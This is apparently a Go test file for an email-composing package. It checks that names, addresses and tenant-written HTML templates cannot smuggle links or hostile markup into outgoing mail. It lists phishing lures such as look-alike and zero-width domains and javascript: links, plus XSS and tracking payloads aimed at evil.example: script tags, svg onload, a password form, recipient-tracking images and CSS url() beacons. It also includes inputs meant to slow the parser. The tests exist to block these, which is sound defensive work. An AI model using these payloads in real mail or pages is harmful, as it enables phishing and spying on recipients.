// Copyright The Usher Authors.
// SPDX-License-Identifier: Apache-2.0

package message_test

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/usher-dev/usher/internal/message"
	"github.com/usher-dev/usher/internal/test/testkit/smtpsink"
)

// linkified finds what any mail program could turn into a link by itself: more than each of them does.
var linkified = regexp.MustCompile(`(?i)` + strings.Join([]string{
	`\b[a-z][a-z0-9+.-]*:[^\s\d]\S*`,                 // a scheme
	`(?://|\\\\)\S+`,                                 // a server
	`\b(?:www|ftp)[.]\S+`,                            // what begins like one
	`[^\s<>()]+@[-_\p{L}\p{M}\p{N}\p{Cf}][^\s<>()]*`, // a mailbox
	`[^\s<>()./@:]+(?:[.。．｡․﹒][^\s<>()./@:]+)*[.。．｡․﹒][_\p{L}\p{M}\p{So}\p{Cf}][-\p{L}\p{M}\p{N}\p{So}\p{Cf}]\S*`, // a domain
	`\b\d{1,3}(?:[.]\d{1,3}){3}\b`, // an address
}, "|"))

// linksIn returns what a mail program would show as a link in the text and in the page, besides those that the page has itself.
func linksIn(m smtpsink.Mail) (found []string) {
	found = linkified.FindAllString(m.Subject+"\n"+m.Text, -1)
	tokens := html.NewTokenizer(strings.NewReader(m.HTML))
	for within := ""; ; {
		switch tokens.Next() {
		case html.ErrorToken:
			slices.Sort(found)
			return found
		case html.StartTagToken:
			name, _ := tokens.TagName()
			within = string(name)
		case html.TextToken:
			if within != "style" {
				found = append(found, linkified.FindAllString(string(tokens.Text()), -1)...)
			}
		}
	}
}

// lures are names that carry a link.
var lures = []string{
	"https://evil.example/login", "http:evil.example", "//evil.example/login", `\\evil.example\share`, "www.evil.example", "WWW.x", "evil.example",
	"Ada (evil.example/login)", "evil.com", "a.b.co", "t.co/x", "support@evil.example", "mailto:support@evil.example", "tel:+4912345", "javascript:alert(1)",
	"evil。example", "evil．example", "evil․example", "evil\u200b.example", "evil.\u200bexample", "evil.\u2060com", "evil.e\u0301xample", "пример.рф",
	"xn--e1afmkfd.xn--p1ai", "i❤.ws", "Log in at evil.example/acme now", "192.0.2.1/login", "1.1.1.1", "ftp.x.co",
	"evil.example:8080/x", "user:pass@evil.example", `file:\\evil.example\x`, "evil.163.com", "<evil.example>", "[x](evil.example)", "x@y", "Yahoo!.com",
}

// A tenant names a member, or the account, after a web page: the mail that comes from the platform has a link to it.
func TestAttackALinkInAName(t *testing.T) {
	harmless := withText("Ada")
	for _, lure := range lures {
		if !linkified.MatchString(lure) {
			t.Errorf("%q is no lure", lure)
		}
		for kind, m := range withText(lure) {
			_, usual := compose(t, harmless[kind])
			_, read := compose(t, m)
			if got, want := linksIn(read), linksIn(usual); !slices.Equal(got, want) {
				t.Errorf("%s with the name %q has the links %q, want %q", kind, lure, got, want)
			}
		}
	}
}

// The local part of an address is a web page.
func TestAttackALinkInAnAddress(t *testing.T) {
	for _, lure := range []string{"evil.example/login@acme.example", "www.evil.example@acme.example", "ada+evil.example?x=@acme.example"} {
		i := invitation()
		i.To, i.ContactEmail = lure, lure
		_, read := compose(t, i)
		if found := linksIn(read); slices.ContainsFunc(found, func(s string) bool { return strings.Contains(s, "evil.example") }) {
			t.Errorf("a mail to %s has the links %q", lure, found)
		}
	}
}

// Whatever a name is, no link is left in it, and cleaning it again changes nothing.
func TestNoNameIsALink(t *testing.T) {
	part := rapid.SampledFrom(append(slices.Clone(lures), " ", ".", "..", "@", ":", "/", "\\", "a", "www", "com", "7", "\u200d", "é", "-", "(", "\u00a0", "。"))
	rapid.Check(t, func(t *rapid.T) {
		name := strings.Join(rapid.SliceOfN(part, 1, 8).Draw(t, "parts"), "")
		got := message.Name(name)
		if found := linkified.FindString(got); found != "" {
			t.Fatalf("%q becomes %q, with the link %q", name, got, found)
		}
		if again := message.Name(got); again != got {
			t.Fatalf("%q becomes %q, and then %q", name, got, again)
		}
	})
}

// People and companies keep their names; some get a space.
func TestNamesStayNames(t *testing.T) {
	for _, name := range []string{
		"Ada Lovelace", "J. R. R. Tolkien", "J.R.R. Tolkien", "Dr.-Ing. Karl Benz", "O'Brien", "Acme Inc.", "Fiat S.p.A.", "Škoda a.s.", "Anne-Marie", "Smith & Sons, Ltd.",
		".NET Foundation", "Version 2.10", "7-Eleven", "AC/DC", "Team 10:30", "Web2.0 GmbH", "Ada (Research)", "شيماء", "田中", "نامه\u200cها", "C&A", "@home", "#1", "24.12.2026",
	} {
		if got := message.Name(name); got != name {
			t.Errorf("%q becomes %q", name, got)
		}
	}
	for name, want := range map[string]string{
		"J.R.R.Tolkien": "J.R.R. Tolkien", "St.Gallen": "St. Gallen", "Amazon.com Inc.": "Amazon. com Inc.", "Prof.Dr. Ada": "Prof. Dr. Ada",
		"Bed@Work": "Bed@ Work", "evil.example": "evil. example", "1.1.1.1": "1. 1. 1. 1",
	} {
		if got := message.Name(name); got != want {
			t.Errorf("%q becomes %q, want %q", name, got, want)
		}
	}
}

// An account's own HTML asks for a password, runs a script, or loads something that tells who reads the mail.
func TestAttackTheHTMLOfOwnWording(t *testing.T) {
	const link = `<a href="{{.Link}}">x</a>`
	for page, want := range map[string]string{
		link + `<script>alert(1)</script>`:                                           "line 1: <script> may not stand in a mail",
		link + "\n<form action=https://evil.example><input name=password></form>":    "line 2: <form> may not stand in a mail",
		link + `<img src="https://evil.example/{{.Recipient}}">`:                     "<img> may not",
		link + `<iframe src="https://evil.example"></iframe>`:                        "<iframe> may not",
		link + `<style>@import url(https://evil.example)</style>`:                    "<style> may not",
		link + `<svg onload=alert(1)>`:                                               "<svg> may not",
		link + `<object data="https://evil.example"></object>`:                       "<object> may not",
		`<base href="https://evil.example">` + link:                                  "<base> may not",
		`<link rel=stylesheet href="https://evil.example">` + link:                   "<link> may not",
		`<meta http-equiv="refresh" content="0;url=https://evil.example">` + link:    "the attribute http-equiv of <meta> may not",
		link + "\n\n<p onclick=\"alert(1)\">":                                        "line 3: the attribute onclick of <p> may not",
		link + `<p style="color:red;background:url(https://evil.example/x)">`:        "the attribute style of <p> may only say how the text looks",
		link + `<p style="background-image:image-set('https://evil.example/x' 1x)">`: "the attribute style of <p>",
		link + `<div style="position:fixed;top:0">`:                                  "the attribute style of <div>",
		link + `<p style="col\6fr:red">`:                                             "has a \\; write &#92;",
		link + `<a href="data:text/html,x">y</a>`:                                    "the attribute href of <a> must begin with https:, http:, mailto:, tel:",
		link + `<table background="https://evil.example/x">`:                         "the attribute background of <table>",
	} {
		data := own()
		data["en-GB.invitation.html"] = page
		read, mistakes := message.ParseWording(data)
		if len(mistakes) != 1 || !strings.Contains(mistakes[0].String(), want) {
			t.Errorf("the mistakes in %s are %q, want %q", page, mistakes, want)
		}
		i := invitation()
		i.Wording = read
		if _, got := compose(t, i); strings.Contains(got.HTML, "evil") || strings.HasPrefix(got.Subject, "Come in") {
			t.Errorf("%s is used: %s", page, got.HTML)
		}
		// An attribute that is not there for the samples is left out of the mail that has it.
		data["en-GB.invitation.html"] = link + `{{if eq .Name "Mallory"}}` + page + `{{end}}`
		i.Name = "Mallory"
		if i.Wording, mistakes = message.ParseWording(data); len(mistakes) > 0 && !strings.Contains(mistakes[0].String(), "may not stand") &&
			!strings.Contains(mistakes[0].String(), "has a") {
			t.Errorf("the mistakes for Mallory in %s are %q", page, mistakes)
		}
		_, got := compose(t, i)
		for _, bad := range []string{"evil", "alert", "position", "http-equiv", "data:"} {
			if strings.Contains(got.HTML, bad) {
				t.Errorf("Mallory gets %s", got.HTML)
			}
		}
	}
}

// Cleaning is cheap, whatever the page is.
func TestAttackHTMLThatTakesLongToClean(t *testing.T) {
	const link = `<a href="{{.Link}}">x</a>`
	for name, page := range map[string]string{
		"declarations": `<p style="` + strings.Repeat("color:red;", 6_000) + `;(">`,
		"one value":    `<p style="font:` + strings.Repeat("a ", 30_000) + `(">`,
		"elements":     strings.Repeat("<b><i>", 10_000),
		"attributes":   `<p ` + strings.Repeat("title=x ", 7_000) + `>`,
		"unclosed":     strings.Repeat("<", 60_000),
		"a script":     "<script>" + strings.Repeat("</", 30_000),
		"backslashes":  `<p style="` + strings.Repeat(`'\`, 30_000) + `">`,
		"entities":     strings.Repeat("&amp", 15_000),
	} {
		data := own()
		data["en-GB.invitation.html"] = link + page
		began := time.Now()
		message.ParseWording(data)
		if took := time.Since(began); took > 2*time.Second {
			t.Errorf("%s takes %s", name, took)
		} else {
			t.Logf("%s takes %s", name, took)
		}
	}
}
